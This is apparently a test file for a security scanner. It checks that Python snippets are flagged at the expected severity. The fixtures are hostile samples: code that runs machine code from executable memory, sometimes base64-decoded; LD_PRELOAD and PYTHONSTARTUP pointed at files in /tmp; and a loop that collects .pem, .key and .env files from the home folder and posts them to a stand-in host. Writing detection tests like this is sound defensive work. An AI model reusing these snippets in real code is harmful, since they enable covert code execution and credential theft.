// Machine code that a program puts into its own memory, and libraries that it has others load from odd places.
import { describe, expect, it } from 'vitest';
import { verdicts } from './support.ts';

const loud = async (text: string): Promise<string[]> =>
  (await verdicts('a.py', text)).filter((verdict) => !/ (?:LOW|INFO)$/.test(verdict));

describe('memory that can be run', () => {
  const WINDOWS =
    'import base64, ctypes\ndef run(code):\n    k = ctypes.WinDLL("kernel32")\n    p = k.VirtualAlloc(None, len(code), 0x3000, 0x40)\n    ctypes.memmove(p, code, len(code))\n    ctypes.CFUNCTYPE(None)(p)()\n';

  it.each([
    [`${WINDOWS}run(open("a.bin", "rb").read())\n`, ['CODE-MACHINE-CODE MEDIUM']],
    [
      WINDOWS.replace('def run(code):\n', 'def run(c):\n    code = base64.b64decode(c)\n'),
      ['CODE-MACHINE-CODE HIGH'],
    ],
    [
      'import ctypes\nlibc = ctypes.CDLL(None)\nb = ctypes.create_string_buffer(b"\\xc3")\nlibc.mprotect(ctypes.addressof(b), 4096, 7)\nctypes.CFUNCTYPE(None)(ctypes.addressof(b))()\n',
      ['CODE-MACHINE-CODE MEDIUM'],
    ],
    [WINDOWS.replace('0x40', '0x04'), []],
    [
      'import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE)\nctypes.CFUNCTYPE(None)(1)\n',
      [],
    ],
  ])('%s', async (text, expected) => {
    expect(await loud(text)).toEqual(expected);
  });
});

describe('a library that all programs load', () => {
  it.each([
    ['os.environ["LD_PRELOAD"] = "/tmp/.x.so"', true],
    ['os.environ.update({"LD_PRELOAD": "/dev/shm/x.so"})', true],
    ['os.environ["PYTHONSTARTUP"] = "/tmp/x.py"', true],
    ['os.environ["LD_PRELOAD"] = "/usr/lib/libjemalloc.so.2"', false],
    ['os.environ.update({"LD_PRELOAD": "/usr/lib/libjemalloc.so.2", "TMPDIR": "/tmp/x"})', false],
    ['os.environ["TMPDIR"] = "/tmp/.x"', false],
  ])('%s', async (line, held) => {
    expect(await loud(`import os\n${line}\n`)).toEqual(held ? ['CODE-DOWNLOAD-EXECUTE MEDIUM'] : []);
  });
});

describe('keys that a program looks for below the home folder', () => {
  const walk = (folder: string, ends: string): string =>
    `import requests\nfrom pathlib import Path\nfor p in ${folder}.rglob("*"):\n    if p.suffix in (${ends}):\n        requests.post("https://c.example.invalid/u", files={"f": p.open("rb")})\n`;

  it('are sent', async () => {
    expect(await loud(walk('Path.home()', '".pem", ".key", ".env"'))).toContain('CODE-CREDENTIAL-SENT HIGH');
  });

  it.each([
    [walk('Path("data")', '".pem", ".key", ".env"')],
    [walk('Path.home()', '".png", ".jpg"')],
    [walk('Path.home()', '".pem"').replace('requests.post', 'print')],
  ])('passes %s', async (text) => {
    expect(await loud(text)).toEqual([]);
  });
});
